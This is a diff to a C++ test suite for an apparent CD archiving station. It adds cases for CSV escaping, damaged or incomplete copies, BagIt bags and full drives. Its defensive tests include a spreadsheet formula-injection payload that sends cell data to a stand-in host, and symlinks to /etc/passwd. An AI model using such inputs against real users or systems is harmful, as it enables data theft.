@@ -17,9 +17,11 @@
 #include <map>
 #include <set>
 #include <sstream>
+#include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
 #include <thread>
+#include <utility>
 #include <unistd.h>
 
 using namespace station;
@@ -48,7 +50,16 @@ INSTANTIATE_TEST_SUITE_P(Log, CsvFields,
                                          FieldCase{"comma", "Tol, Jan", "\"Tol, Jan\""},
                                          FieldCase{"quote", "Het \"boek\"", "\"Het \"\"boek\"\"\""},
                                          FieldCase{"line_break", "a\nb", "\"a\nb\""},
-                                         FieldCase{"empty", "", ""}),
+                                         FieldCase{"empty", "", ""},
+                                         FieldCase{"hyperlink", "=HYPERLINK(\"http://x?y=\"&A1,\"klik\")",
+                                                   "\"'=HYPERLINK(\"\"http://x?y=\"\"&A1,\"\"klik\"\")\""},
+                                         FieldCase{"sum", "=1+1", "'=1+1"},
+                                         FieldCase{"plus", "+31 20", "'+31 20"},
+                                         FieldCase{"minus", "-2", "'-2"},
+                                         FieldCase{"at", "@SUM(A1)", "'@SUM(A1)"},
+                                         FieldCase{"tab", "\t=1", "'\t=1"},
+                                         FieldCase{"carriage_return", "\r=1", "\"'\r=1\""},
+                                         FieldCase{"inner_equals", "a=1", "a=1"}),
                          CaseName());
 
 std::string ReadAll(const std::string& path)
@@ -176,16 +187,8 @@ TEST(Batch, AKilledRunLeavesNoHalfBookAndTheRestartCopiesIt)
     ASSERT_GE(child, 0);
     if (child == 0) {
         // Slow enough to be killed in the middle of the book.
-        struct CSlow final : copyops::CCopyEngine
-        {
-            int ReadChunk(int in, char* buffer, std::size_t max, std::size_t& got) override
-            {
-                ::usleep(20000);
-                return CCopyEngine::ReadChunk(in, buffer, max, got);
-            }
-        };
         StationSetup slow = setup;
-        slow.makeEngine = [] { return std::make_unique<CSlow>(); };
+        slow.makePace = [] { return [](std::size_t) { ::usleep(20000); }; };
         CNameReservations names;
         std::atomic<bool> cancel{false};
         ArchiveDisc(dir / "cd1/", "cd1", slow, names, cancel, nullptr);
@@ -210,7 +213,7 @@ TEST(Batch, AKilledRunLeavesNoHalfBookAndTheRestartCopiesIt)
     std::set<std::string> left;
     for (const auto& entry : fs::directory_iterator(setup.outputDir))
         left.insert(entry.path().filename().string());
-    EXPECT_EQ((std::set<std::string>{events.rows[0].folder, kLogName}), left);
+    EXPECT_EQ((std::set<std::string>{events.rows[0].folder, events.rows[0].folder + ".sha256", kLogName}), left);
 }
 
 // A validator of the bag as RFC 8493 has it: what it finds wrong, "" when
@@ -264,5 +267,343 @@ TEST(Bag, IsWholeByAValidatorAndTheSameDiscAgainIsAlreadyThere)
     EXPECT_EQ(Outcome::AlreadyThere, again.at(0).outcome);
     EXPECT_EQ(first[0].folder, again.at(0).folder);
 }
+
+// Overwrites a stretch of a file with zeros, its size unchanged: another
+// edition's audio, or an archive's file gone bad.
+void Spoil(const fs::path& file)
+{
+    std::fstream f(file, std::ios::in | std::ios::out | std::ios::binary);
+    f.seekp(100);
+    f << std::string(1000, '\0');
+}
+
+LogRow ArchiveOnce(const fs::path& disc, const StationSetup& setup)
+{
+    CNameReservations names;
+    std::atomic<bool> cancel{false};
+    return ArchiveDisc(disc.string() + "/", "cd", setup, names, cancel, nullptr).at(0);
+}
+
+std::set<std::string> Names(const fs::path& folder)
+{
+    std::set<std::string> names;
+    for (const auto& entry : fs::directory_iterator(folder))
+        names.insert(entry.path().filename().string());
+    return names;
+}
+
+struct OutcomeCase
+{
+    const char* name;
+    bool bagit;
+    std::string bookOptions;
+    // Prepares the disc and the output folder (which exists, unless the
+    // case removes it); may archive the disc a first time.
+    std::function<void(const fs::path& disc, StationSetup& setup)> before;
+    Outcome outcome;
+    std::function<void(const fs::path& disc, const fs::path& out, const LogRow& row)> after;
+    // The output folder on a file system of this size of its own ("": none).
+    std::string drive = {};
+};
+PRINT_CASE_AS(OutcomeCase, name)
+
+class StationOutcomes : public testing::TestWithParam<OutcomeCase>
+{};
+
+TEST_P(StationOutcomes, AreWhatTheBytesProve)
+{
+    const OutcomeCase& c = GetParam();
+    CTempDir dir;
+    const fs::path disc = dir / "cd";
+    MakeBook(disc, c.bookOptions);
+    StationSetup setup = OutputSetup(dir);
+    setup.bagit = c.bagit;
+    struct CDrive
+    {
+        std::string at;
+        ~CDrive()
+        {
+            if (!at.empty())
+                ::umount2(at.c_str(), MNT_DETACH);
+        }
+    } drive;
+    if (!c.drive.empty()) {
+        if (::mount("tmpfs", setup.outputDir.c_str(), "tmpfs", 0, ("size=" + c.drive).c_str()) != 0)
+            GTEST_SKIP() << "a small drive needs mount(2)";
+        drive.at = setup.outputDir;
+    }
+    if (c.before)
+        c.before(disc, setup);
+    CFolderDrives drives;
+    drives.drives.push_back({disc.string() + "/", "cd"});
+    CRows events;
+    CStation station(setup, drives, events);
+    station.RunOnce();
+    ASSERT_EQ(1u, events.rows.size());
+    const LogRow& row = events.rows[0];
+    EXPECT_EQ(OutcomeWord(c.outcome), std::string(OutcomeWord(row.outcome))) << row.message;
+    const fs::path out = setup.outputDir;
+    const std::vector<std::string> lines = Lines(ReadAll(out / kLogName));
+    ASSERT_FALSE(lines.empty());
+    EXPECT_NE(std::string::npos, lines.back().find(std::string(",") + OutcomeWord(c.outcome) + ","));
+    if (!row.folder.empty() && fs::exists(out / row.folder / "bagit.txt")) {
+        EXPECT_EQ("", ValidateBag(out / row.folder));
+    }
+    // Nothing of the program's own stays in the archive, and no link.
+    for (const auto& entry : fs::recursive_directory_iterator(out)) {
+        const std::string name = entry.path().filename().string();
+        EXPECT_FALSE(entry.is_symlink()) << entry.path();
+        EXPECT_NE(0u, name.rfind(".talvora-werkmap", 0)) << entry.path();
+    }
+    if (c.after)
+        c.after(disc, out, row);
+}
+
+const std::string kBook = "TV-2026-0042 - Het raadsel van de blauwe sluis - Hoogmeer, Tjitske";
+
+// A file the engine refuses to read, as a damaged sector would be.
+void Unreadable(const fs::path& disc, const StationSetup&)
+{
+    ASSERT_EQ(0, ::mkfifo((disc / "kapot.mp3").c_str(), 0644));
+}
+
+// A link to a file of the book, and links that lead out of it.
+void Links(const fs::path& disc, const StationSetup&)
+{
+    fs::create_symlink("aud0001.wav", disc / "kopie.wav");
+    fs::create_symlink("/etc/passwd", disc / "wachtwoord");
+    fs::create_symlink("/", disc / "wortel");
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Station, StationOutcomes,
+    testing::Values(
+        OutcomeCase{"same_edition", false, "", [](const fs::path& disc, const StationSetup& setup) {
+                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
+                    },
+                    Outcome::AlreadyThere,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_EQ(kBook, row.folder);
+                        EXPECT_EQ((std::set<std::string>{kBook, kBook + ".sha256", kLogName}), Names(out));
+                    }},
+        OutcomeCase{"other_edition", false, "", [](const fs::path& disc, const StationSetup& setup) {
+                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
+                        Spoil(disc / "aud0002.wav");
+                    },
+                    Outcome::Copied,
+                    [](const fs::path& disc, const fs::path& out, const LogRow& row) {
+                        EXPECT_EQ(kBook + "_001", row.folder);
+                        EXPECT_NE(std::string::npos, row.message.find("andere uitgave")) << row.message;
+                        EXPECT_EQ(ReadAll(disc / "aud0002.wav"), ReadAll(out / row.folder / "aud0002.wav"));
+                        EXPECT_NE(ReadAll(disc / "aud0002.wav"), ReadAll(out / kBook / "aud0002.wav"));
+                    }},
+        OutcomeCase{"damaged_archive", false, "", [](const fs::path& disc, const StationSetup& setup) {
+                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
+                        Spoil(fs::path(setup.outputDir) / kBook / "aud0003.wav");
+                    },
+                    Outcome::ArchiveDamaged,
+                    [](const fs::path& disc, const fs::path& out, const LogRow& row) {
+                        EXPECT_EQ(kBook, row.folder);
+                        EXPECT_NE(std::string::npos, row.message.find("aud0003.wav")) << row.message;
+                        EXPECT_EQ(ReadAll(disc / "aud0003.wav"), ReadAll(out / kBook / "aud0003.wav"));
+                        EXPECT_EQ((std::set<std::string>{kBook, kBook + ".sha256", kLogName}), Names(out));
+                    }},
+        OutcomeCase{"damaged_bag", true, "", [](const fs::path& disc, const StationSetup& setup) {
+                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
+                        Spoil(fs::path(setup.outputDir) / kBook / "data/aud0001.wav");
+                    },
+                    Outcome::ArchiveDamaged,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_EQ(kBook, row.folder);
+                        EXPECT_EQ((std::set<std::string>{kBook, kLogName}), Names(out));
+                    }},
+        OutcomeCase{"hostile_title", false, "--title =1+1", nullptr, Outcome::Copied,
+                    [](const fs::path&, const fs::path& out, const LogRow&) {
+                        EXPECT_NE(std::string::npos, ReadAll(out / kLogName).find(",'=1+1,"));
+                    }},
+        OutcomeCase{"incomplete_bag", true, "", Unreadable, Outcome::Incomplete,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_EQ(kBook + " (onvolledig)", row.folder);
+                        EXPECT_EQ("kapot.mp3\n", ReadAll(out / row.folder / "talvora-ontbreekt.txt"));
+                        EXPECT_TRUE(fs::exists(out / row.folder / "data/aud0001.wav"));
+                        EXPECT_FALSE(fs::exists(out / row.folder / "data/.talvora-onvolledig"));
+                    }},
+        OutcomeCase{"incomplete_bag_twice", true, "",
+                    [](const fs::path& disc, const StationSetup& setup) {
+                        Unreadable(disc, setup);
+                        ASSERT_EQ(Outcome::Incomplete, ArchiveOnce(disc, setup).outcome);
+                    },
+                    Outcome::Incomplete,
+                    [](const fs::path&, const fs::path&, const LogRow& row) {
+                        EXPECT_EQ(kBook + " (onvolledig)_001", row.folder);
+                    }},
+        OutcomeCase{"incomplete_bag_long_title", true, "--title " + std::string(240, 'x'), Unreadable,
+                    Outcome::Incomplete,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_TRUE(fs::is_directory(out / row.folder)) << row.message;
+                        EXPECT_NE(std::string::npos, row.folder.find(" (onvolledig)"));
+                    }},
+        OutcomeCase{"bag_of_a_disc_with_its_own_defect", true, "--fault missing-audio", nullptr, Outcome::Copied,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_EQ(kBook, row.folder);
+                        EXPECT_NE(std::string::npos,
+                                  ReadAll(out / row.folder / "bag-info.txt").find("Talvora-Gebrek-Op-CD: "));
+                        EXPECT_FALSE(row.message.empty());
+                    }},
+        OutcomeCase{"bag_into_a_new_folder", true, "",
+                    [](const fs::path&, const StationSetup& setup) { fs::remove_all(setup.outputDir); },
+                    Outcome::Copied,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        // Readable as a plain copy: made as the output folder was.
+                        EXPECT_EQ(fs::status(out).permissions(), fs::status(out / row.folder).permissions());
+                        EXPECT_EQ((std::set<std::string>{"bag-info.txt", "bagit.txt", "data", "manifest-sha256.txt",
+                                                         "tagmanifest-sha256.txt"}),
+                                  Names(out / row.folder));
+                    }},
+        OutcomeCase{"bag_with_a_name_that_is_no_utf8", true, "",
+                    [](const fs::path& disc, const StationSetup&) {
+                        std::ofstream(disc / "naam\xff.txt") << "x";
+                    },
+                    Outcome::Copied,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_FALSE(fs::exists(out / row.folder / "bagit.txt"));
+                        EXPECT_NE(std::string::npos, row.message.find("UTF-8")) << row.message;
+                        EXPECT_TRUE(fs::exists(out / (row.folder + ".sha256")));
+                    }},
+        OutcomeCase{"links_on_the_disc", false, "", Links, Outcome::Copied,
+                    [](const fs::path& disc, const fs::path& out, const LogRow& row) {
+                        EXPECT_EQ(ReadAll(disc / "aud0001.wav"), ReadAll(out / row.folder / "kopie.wav"));
+                        EXPECT_FALSE(fs::exists(fs::symlink_status(out / row.folder / "wachtwoord")));
+                        EXPECT_FALSE(fs::exists(fs::symlink_status(out / row.folder / "wortel")));
+                        EXPECT_NE(std::string::npos, row.message.find("weggelaten")) << row.message;
+                    }},
+        OutcomeCase{"links_on_the_disc_again", false, "",
+                    [](const fs::path& disc, const StationSetup& setup) {
+                        Links(disc, setup);
+                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
+                    },
+                    Outcome::AlreadyThere, nullptr},
+        OutcomeCase{"links_in_a_bag", true, "", Links, Outcome::Copied,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_NE(std::string::npos, ReadAll(out / row.folder / "bag-info.txt")
+                                                         .find("Talvora-Koppeling-Weggelaten: wachtwoord"));
+                    }},
+        OutcomeCase{"fifo_as_the_note_of_an_incomplete_copy", false, "",
+                    [](const fs::path& disc, const StationSetup& setup) {
+                        Unreadable(disc, setup);
+                        ASSERT_EQ(Outcome::Incomplete, ArchiveOnce(disc, setup).outcome);
+                        const fs::path note = fs::path(setup.outputDir) / (kBook + " (onvolledig)/.talvora-onvolledig");
+                        fs::remove(note);
+                        ASSERT_EQ(0, ::mkfifo(note.c_str(), 0644));
+                    },
+                    Outcome::Incomplete, nullptr},
+        OutcomeCase{"incomplete_copy_completed_keeps_one_manifest", false, "",
+                    [](const fs::path& disc, const StationSetup& setup) {
+                        Unreadable(disc, setup);
+                        ASSERT_EQ(Outcome::Incomplete, ArchiveOnce(disc, setup).outcome);
+                        fs::remove(disc / "kapot.mp3");
+                        std::ofstream(disc / "kapot.mp3") << "nu leesbaar";
+                    },
+                    Outcome::Copied,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_EQ(kBook, row.folder);
+                        EXPECT_EQ((std::set<std::string>{kBook, kBook + ".sha256", kLogName}), Names(out));
+                        std::map<std::string, std::string> listed;
+                        ASSERT_TRUE(ReadManifest(out / (kBook + ".sha256"), "", listed));
+                        EXPECT_EQ(8u, listed.size());
+                        EXPECT_EQ(Sha256Hex("nu leesbaar"), listed["kapot.mp3"]);
+                        EXPECT_EQ(Sha256Hex(ReadAll(out / kBook / "aud0001.wav")), listed["aud0001.wav"]);
+                    }},
+        OutcomeCase{"drive_too_full_to_start", false, "", nullptr, Outcome::Refused,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_NE(std::string::npos, row.message.find("past niet op de schijf")) << row.message;
+                        EXPECT_NE(std::string::npos, row.message.find(" MB")) << row.message;
+                        EXPECT_EQ((std::set<std::string>{kLogName}), Names(out));
+                    },
+                    "48k"},
+        OutcomeCase{"drive_full_midway", false, "",
+                    [](const fs::path&, StationSetup& setup) {
+                        // Something else fills the drive once the copy has
+                        // begun, leaving room for the log only.
+                        const std::string filler = setup.outputDir + "vuller";
+                        setup.makePace = [filler] {
+                            return [filler, filled = false](std::size_t) mutable {
+                                if (std::exchange(filled, true))
+                                    return;
+                                {
+                                    std::ofstream out(filler, std::ios::binary);
+                                    const std::string block(4096, 'v');
+                                    while (out.write(block.data(), block.size()))
+                                        ;
+                                }
+                                fs::resize_file(filler, fs::file_size(filler) > 16384 ? fs::file_size(filler) - 16384 : 0);
+                            };
+                        };
+                    },
+                    Outcome::Failed,
+                    [](const fs::path&, const fs::path& out, const LogRow& row) {
+                        EXPECT_NE(std::string::npos, row.message.find("raakte vol")) << row.message;
+                        EXPECT_EQ(std::string::npos, row.message.find("gelezen")) << row.message;
+                        EXPECT_EQ((std::set<std::string>{kLogName, "vuller"}), Names(out));
+                    },
+                    "1m"}),
+    CaseName());
+
+// A drive that claims a file system for the read-back.
+class CClaimedDrive final : public CHashingEngine
+{
+public:
+    CClaimedDrive(const std::string& root, DiscPace pace, copyops::DriveFileSystem kind)
+        : CHashingEngine(root, std::move(pace)), m_kind(kind)
+    {
+    }
+
+protected:
+    copyops::DriveFileSystem FileSystemOf(int, std::string& mountType) override
+    {
+        mountType = m_kind == copyops::DriveFileSystem::Fuse ? "fuseblk" : "ext4";
+        return m_kind;
+    }
+
+private:
+    copyops::DriveFileSystem m_kind;
+};
+
+struct ReadBackLogCase
+{
+    const char* name;
+    copyops::DriveFileSystem kind;
+    std::string message;
+};
+PRINT_CASE_AS(ReadBackLogCase, name)
+
+class ReadBackLog : public testing::TestWithParam<ReadBackLogCase>
+{};
+
+TEST_P(ReadBackLog, SaysWhereTheCopyCouldNotBeReadBackFromTheDrive)
+{
+    CTempDir dir;
+    MakeBook(dir / "cd1");
+    StationSetup setup = OutputSetup(dir);
+    setup.settings.VerifyCopy = 1;
+    const copyops::DriveFileSystem kind = GetParam().kind;
+    setup.makeEngine = [kind](const std::string& root, DiscPace pace) -> std::unique_ptr<CHashingEngine> {
+        return std::make_unique<CClaimedDrive>(root, std::move(pace), kind);
+    };
+    CNameReservations names;
+    std::atomic<bool> cancel{false};
+    const std::vector<LogRow> rows = ArchiveDisc(dir / "cd1/", "cd1", setup, names, cancel, nullptr);
+    ASSERT_EQ(1u, rows.size());
+    EXPECT_EQ(Outcome::Copied, rows[0].outcome);
+    EXPECT_EQ(rows[0].message.rfind(GetParam().message, 0), 0u) << rows[0].message;
+    EXPECT_EQ(rows[0].message.empty(), GetParam().message.empty()) << rows[0].message;
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Station, ReadBackLog,
+    testing::Values(ReadBackLogCase{"KernelDrive", copyops::DriveFileSystem::Kernel, ""},
+                    ReadBackLogCase{"FuseDrive", copyops::DriveFileSystem::Fuse,
+                                    "De kopie kon niet van de stick zelf worden teruggelezen."}),
+    CaseName());
 
 } // namespace
